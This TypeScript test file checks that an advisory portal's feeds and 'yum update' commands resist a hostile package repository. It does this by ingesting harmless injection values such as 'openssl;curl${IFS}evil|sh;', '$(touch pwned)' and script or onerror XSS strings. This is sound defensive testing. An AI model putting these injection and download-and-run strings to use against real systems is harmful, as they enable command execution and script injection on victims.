// Hostile repository text at the two places a reader trusts most: every feed (RSS, Atom, JSON Feed; global, per
// product, package and CVE) must stay well-formed and inert, and every `yum update` command the page and feeds
// show must read back in a POSIX shell as exactly the names and id it was made from, with nothing run.
import t, { type Test } from 'tap'
import Database from 'better-sqlite3'
import type { FastifyInstance } from 'fastify'
import { XMLParser } from 'fast-xml-parser'
import { spawnSync } from 'node:child_process'
import { existsSync, readdirSync, realpathSync } from 'node:fs'
import { join } from 'node:path'
import Parser from 'rss-parser'
import type { RepoSpec } from '../ingest/config.js'
import { shellQuote, yumAdvisoryCommand, yumUpdateCommand } from '../server/shell.js'
import { readRows } from './helpers/db.js'
import { tempDir } from './helpers/paths.js'
import { writeRepo } from './helpers/repo-builder.js'
import { ingestOk, testApp, testDb } from './helpers/test-app.js'
import { wellFormed } from './helpers/xml.js'

const enc = encodeURIComponent
const cve = 'CVE-2024-66666'

/** Source package names as a hostile repository could spell them. None of the payloads does harm if run. */
const hostileNames = [
  // eslint-disable-next-line no-template-curly-in-string -- the shell's ${IFS}, not a template
  'openssl;curl${IFS}evil|sh;',
  '$(touch pwned)',
  '`touch pwned`',
  'a|b&c>out',
  "it's",
  '-rf',
  '~root',
  'x\ny',
  'tab\there',
  '<script>alert(4)</script>',
  'glob*?[a]{b,c}',
  '"dq"\\',
  'openssl-libs+1.0_x.y'
]
// eslint-disable-next-line no-template-curly-in-string -- the shell's ${IFS}, not a template
const hostileId = "EVIL-2024:0002;curl${IFS}evil|sh;$(touch pwned)`touch pwned`'\"&<b>"

const attr = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;')
  .replace(/\n/g, '&#10;').replace(/\t/g, '&#9;')
const text = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')

const payload = '<script>alert(1)</script> ]]> <img src=x onerror=alert(2)> ]]> & "q" \'s\''
const updateinfo = `<?xml version="1.0" encoding="UTF-8"?>
<updates>
  <update status="final" type="${attr('sec<script>alert(3)</script>]]>"\'&')}" version="1">
    <id>EVIL-2024:0001</id>
    <title>${text(payload)}</title>
    <issued date="2024-03-05 06:07:08"/>
    <severity>${text('crit<img src=x onerror=alert(5)>]]>"\'&amp;')}</severity>
    <description>${text(`${payload}\n\nMore ]]> text <svg onload=alert(6)>.`)}</description>
    <references>
      <reference href="javascript:alert(7)" id="${attr('<script>alert(8)</script>')}" type="${attr('<b>vendor</b>')}" title="${attr(payload)}"/>
      <reference href="https://www.cve.org/CVERecord?id=${cve}" id="${cve}" type="cve"/>
    </references>
    <pkglist><collection short="evil">
${hostileNames.map((n) => `      <package name="${attr(n)}" version="1.0" release="1" arch="src"/>`).join('\n')}
      <package name="${attr('<img src=x onerror=alert(9)>')}" version="1.0" release="1&lt;b&gt;" arch="x86_64"/>
    </collection></pkglist>
  </update>
  <update status="final" type="security" version="1">
    <id>${text(hostileId)}</id>
    <title>second</title>
    <issued date="2024-03-04"/>
    <severity>Low</severity>
    <references><reference href="https://www.cve.org/CVERecord?id=${cve}" id="${cve}" type="cve"/></references>
    <pkglist><collection short="evil"><package name="-rf" version="2" release="1" arch="src"/></collection></pkglist>
  </update>
  <update status="final" type="security" version="1">
    <id>-EVIL-2024:0003</id>
    <title>plain</title>
    <issued date="2024-03-03"/>
    <severity>Moderate</severity>
    <pkglist><collection short="evil"><package name="openssl" version="3" release="1" arch="src"/></collection></pkglist>
  </update>
</updates>`

interface Setup { app: FastifyInstance, dir: string, dbPath: string }

/**
 * Ingests the hostile repository, then writes into a fourth advisory what no XML can carry (control characters)
 * and what a stricter ingest might refuse (the hostile names): the display must be safe whatever the database holds.
 */
async function setup (t: Test): Promise<Setup> {
  const { dir, dbPath } = testDb(t)
  const root = join(dir, 'evil')
  writeRepo(root, updateinfo)
  const repos: RepoSpec[] = [{ productId: 'evil', productName: 'Evil <i>Linux</i> & "co"', url: root, kind: 'baseurl', baseurls: [root], name: 'evil', allowedHosts: [] }]
  await ingestOk(t, dbPath, repos)
  const db = new Database(dbPath)
  const second = db.prepare<[], { pk: number }>("SELECT pk FROM advisory WHERE title = 'second'").get()
  t.ok(second, 'the ingest kept the advisory with the hostile id')
  db.prepare("UPDATE advisory SET id = ?, severity = ?, type = ?, title = ? WHERE title = 'second'")
    .run(`${hostileId}\n\u0001x`, 'low\u0001<b>\u0008', 'security\u000b<i>', 'second \u0002 <b>]]>')
  const pkg = db.prepare<[], { advisory_pk: number, repo_id: number, collection_pk: number }>('SELECT advisory_pk, repo_id, collection_pk FROM advisory_package WHERE advisory_pk = (SELECT pk FROM advisory WHERE title LIKE \'second%\')').get()!
  const insert = db.prepare(`INSERT INTO advisory_package (advisory_pk, repo_id, collection_pk, seq, name, version, release, arch)
    VALUES (?, ?, ?, ?, ?, '1', '1', 'src')`)
  hostileNames.forEach((name, i) => insert.run(pkg.advisory_pk, pkg.repo_id, pkg.collection_pk, 100 + i, name))
  db.prepare("UPDATE meta SET value = CAST(value AS INTEGER) + 1 WHERE key = 'data_generation'").run()
  db.close()
  const app = await testApp(t, { dbPath })
  return { app, dir, dbPath }
}

interface Stored { pk: number, id: string, severity: string | null, type: string | null, sources: string[] }

/** What the database holds, so the test expects exactly what the server was given. */
function stored (dbPath: string): Stored[] {
  return readRows<{ pk: number, id: string, severity: string | null, type: string | null }>(dbPath,
    "SELECT pk, id, severity, type FROM advisory WHERE product_id = 'evil' ORDER BY issued DESC")
    .map((a) => ({
      ...a,
      sources: readRows<{ name: string }>(dbPath, "SELECT DISTINCT name FROM advisory_package WHERE advisory_pk = ? AND arch = 'src'", a.pk).map((r) => r.name).sort()
    }))
}

/** Runs `set -- <command>` in a POSIX shell with no PATH (so anything it tried to run fails loudly) and returns the words. */
function shellWords (t: Test, shell: string, command: string, cwd: string): string[] {
  const script = `set -- ${command}\nprintf '%s\\0' "$@"`
  // bash reads no startup file and behaves as POSIX asks.
  const options = shell.endsWith('bash') ? ['--norc', '--noprofile', '--posix', '-c'] : ['-c']
  const run = spawnSync(shell, [...options, script], { cwd, env: { PATH: '/nonexistent' }, encoding: 'utf8' })
  t.equal(run.stderr, '', `${shell}: nothing tried to run`)
  t.equal(run.status, 0, `${shell}: exit 0`)
  return run.stdout.split('\0').slice(0, -1)
}

/** /bin/sh (dash on Debian) and bash in POSIX mode, each once. */
const shells = [...new Set(['/bin/sh', '/bin/bash'].filter((s) => existsSync(s)).map((s) => realpathSync(s)))]

/** Asserts that a rendered command reads back as exactly `words` (in every shell, or the first one) and ran nothing. */
function readsBack (t: Test, command: string, words: string[], dir: string, what: string, every = true): void {
  for (const shell of every ? shells : shells.slice(0, 1)) t.strictSame(shellWords(t, shell, command, dir), words, `${what} (${shell})`)
  t.strictSame(readdirSync(dir).filter((f) => f.startsWith('pwned') || f === 'out'), [], `${what}: no payload ran`)
}

const updateWords = (names: string[]): string[] => ['yum', 'update', ...(names.some((n) => n.startsWith('-')) ? ['--'] : []), ...names]

function decodeHtml (s: string): string {
  return s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&#x27;/g, "'").replace(/&amp;/g, '&')
}

// eslint-disable-next-line no-control-regex
const noXmlForbidden = (s: string): string => s.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g, '')

/** Feed content is our own markup: only these tags, and links only to the portal. Anything else is text. */
function ownMarkupOnly (t: Test, html: string, what: string): void {
  const rest = html.replace(/<\/?(?:p|strong|code|ul|li)>|<a href="http:\/\/localhost\/[^"<>]*">|<\/a>/g, '')
  t.notMatch(rest, /</, `${what}: no markup but ours`)
}

t.test('shellQuote and the yum commands', async (t) => {
  t.equal(shellQuote('openssl-libs'), 'openssl-libs', 'plain rpm names stay as ALAS writes them')
  t.equal(shellQuote('python3.11+x_y:1@a%b/c=d,e'), 'python3.11+x_y:1@a%b/c=d,e')
  t.equal(shellQuote("it's"), "'it'\\''s'")
  t.equal(shellQuote('~root'), "'~root'", 'a tilde is quoted')
  t.equal(shellQuote(''), "''", 'an empty word stays a word')
  t.equal(yumUpdateCommand(['kernel', 'perf']), 'yum update kernel perf')
  t.equal(yumUpdateCommand(['-rf', 'a b']), "yum update -- -rf 'a b'", '-- before a name that starts with -')
  t.equal(yumAdvisoryCommand('ALAS-2024-001'), 'yum update --advisory=ALAS-2024-001')
  t.equal(yumAdvisoryCommand('a;b'), "yum update --advisory='a;b'")
  const dir = tempDir(t)
  readsBack(t, yumUpdateCommand(hostileNames), updateWords(hostileNames), dir, 'every hostile name')
  readsBack(t, yumAdvisoryCommand(hostileId), ['yum', 'update', `--advisory=${hostileId}`], dir, 'the hostile id')
})

t.test('the advisory page: each command reads back as the names and the id', async (t) => {
  const { app, dir, dbPath } = await setup(t)
  const advisories = stored(dbPath)
  t.equal(advisories.length, 3)
  t.ok(advisories.some((a) => hostileNames.every((n) => a.sources.includes(n))), 'one advisory holds every hostile name')
  for (const a of advisories) {
    const res = await app.inject(`/evil/${enc(a.id)}`)
    t.equal(res.statusCode, 200, `${a.id}: page`)
    const commands = [...res.body.matchAll(/<code class="command">([^<]*)<\/code>/g)].map((m) => decodeHtml(m[1]!))
    t.equal(commands.length, 2, `${a.id}: two commands`)
    readsBack(t, commands[0]!, updateWords(a.sources), dir, `${JSON.stringify(a.id)}: yum update <names>`)
    readsBack(t, commands[1]!, ['yum', 'update', `--advisory=${a.id}`], dir, `${JSON.stringify(a.id)}: yum update --advisory`)
  }
  const plain = advisories.find((a) => a.id === '-EVIL-2024:0003')!
  const html = (await app.inject(`/evil/${enc(plain.id)}`)).body
  t.match(html, '<code class="command">yum update openssl</code>', 'a plain name is shown as ALAS shows it')
  t.match(html, '<code class="command">yum update --advisory=-EVIL-2024:0003</code>', 'an id starting with - is the option value')
})

t.test('every feed is well-formed, inert, and its fix command reads back', async (t) => {
  const { app, dir, dbPath } = await setup(t)
  const advisories = stored(dbPath)
  const byLink = (link: string): Stored => {
    const a = advisories.find((x) => link === `http://localhost/evil/${enc(x.id)}`)
    if (a === undefined) throw new Error(`no advisory for ${link}`)
    return a
  }
  const xml = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '@', isArray: (name) => ['item', 'entry', 'category', 'link'].includes(name) })
  const rssParser = new Parser()
  const textOf = (node: unknown): string => typeof node === 'string' ? node : String((node as Record<string, unknown>)['#text'] ?? '')
  const paths = ['/feeds/advisories', '/feeds/evil', `/feeds/cve/${cve}`, ...hostileNames.map((n) => `/feeds/packages/${enc(n)}`)]

  /** The item's title read as HTML shows the ALAS title; the content is our markup; the Fix command reads back. */
  const checkItem = (what: string, a: Stored, title: string, content: string, categories: Array<[string, string]>): void => {
    t.notMatch(title, /</, `${what}: the title holds no tag`)
    const raw = `${noXmlForbidden(a.id)}${a.severity === null ? '' : ` (${noXmlForbidden(a.severity)})`}${a.sources.length === 0 ? '' : `: ${a.sources.join(', ')}`}`
    t.equal(decodeHtml(title), raw, `${what}: and reads, as HTML, as the ALAS title`)
    ownMarkupOnly(t, content, what)
    const fix = /<strong>Fix:<\/strong> <code>([^<]*)<\/code>/.exec(content)
    t.ok(fix, `${what}: a Fix command`)
    readsBack(t, decodeHtml(fix![1]!), updateWords(a.sources.map(noXmlForbidden)), dir, `${what}: Fix`, false)
    const severity = categories.find(([, domain]) => domain === 'severity')?.[0]
    t.equal(severity, noXmlForbidden(a.severity ?? 'none'), `${what}: the severity category is the exact text`)
    t.equal(categories.find(([, domain]) => domain === 'type')?.[0], noXmlForbidden(a.type ?? 'unspecified'), `${what}: so is the type`)
  }

  for (const path of paths) {
    const rss = await app.inject(`${path}.rss`)
    t.equal(rss.statusCode, 200, `${path}.rss`)
    t.equal(wellFormed(rss.body), null, `${path}.rss: well-formed`)
    const channel = xml.parse(rss.body).rss.channel
    const items = (channel.item ?? []) as Array<Record<string, unknown>>
    t.ok(items.length > 0, `${path}.rss: items`)
    t.equal((await rssParser.parseString(rss.body)).items.length, items.length, `${path}.rss: rss-parser reads it`)
    for (const item of items) {
      const link = (item.link as string[])[0]!
      const categories = (item.category as unknown[]).map((c) => [textOf(c), (c as Record<string, string>)['@domain']!] as [string, string])
      checkItem(`${path}.rss ${link}`, byLink(link), textOf(item.title), textOf(item.description), categories)
    }

    const atom = await app.inject(`${path}.atom`)
    t.equal(wellFormed(atom.body), null, `${path}.atom: well-formed`)
    const feed = xml.parse(atom.body).feed
    t.equal((await rssParser.parseString(atom.body)).items.length, feed.entry.length, `${path}.atom: rss-parser reads it`)
    for (const entry of feed.entry as Array<Record<string, unknown>>) {
      const link = (entry.link as Array<Record<string, string>>)[0]!['@href']!
      t.equal((entry.title as Record<string, string>)['@type'], 'html')
      // The feed package writes the categories in the order given: severity, type, product.
      const categories = (entry.category as Array<Record<string, string>>).map((c, i) => {
        t.equal(c['@label'], c['@term'], `${path}.atom: label = term`)
        return [c['@term']!, ['severity', 'type', 'product'][i]!] as [string, string]
      })
      checkItem(`${path}.atom ${link}`, byLink(link), textOf(entry.title), textOf(entry.content), categories)
    }

    const json = await app.inject(`${path}.json`)
    const doc = JSON.parse(json.body) as { items: Array<{ url: string, title: string, content_html: string, tags: string[] }> }
    for (const item of doc.items) {
      const a = byLink(item.url)
      ownMarkupOnly(t, item.content_html, `${path}.json ${item.url}`)
      const fix = /<strong>Fix:<\/strong> <code>([^<]*)<\/code>/.exec(item.content_html)
      readsBack(t, decodeHtml(fix![1]!), updateWords(a.sources), dir, `${path}.json ${item.url}: Fix`, false)
      t.ok(item.tags.includes(a.severity ?? 'none'), 'JSON Feed tags: the exact severity')
    }
  }

  // The channel title carries the package name from the URL: text, escaped.
  const channelTitle = xml.parse((await app.inject(`/feeds/packages/${enc('<script>alert(4)</script>')}.atom`)).body).feed.title
  t.equal(textOf(channelTitle), 'Lambda Linux Security Center: Advisories for <script>alert(4)</script>')
  const product = xml.parse((await app.inject('/feeds/evil.rss')).body).rss.channel.title
  t.equal(textOf(product), 'Lambda Linux Security Center: Evil <i>Linux</i> & "co" advisories', 'the product name, exact')
})
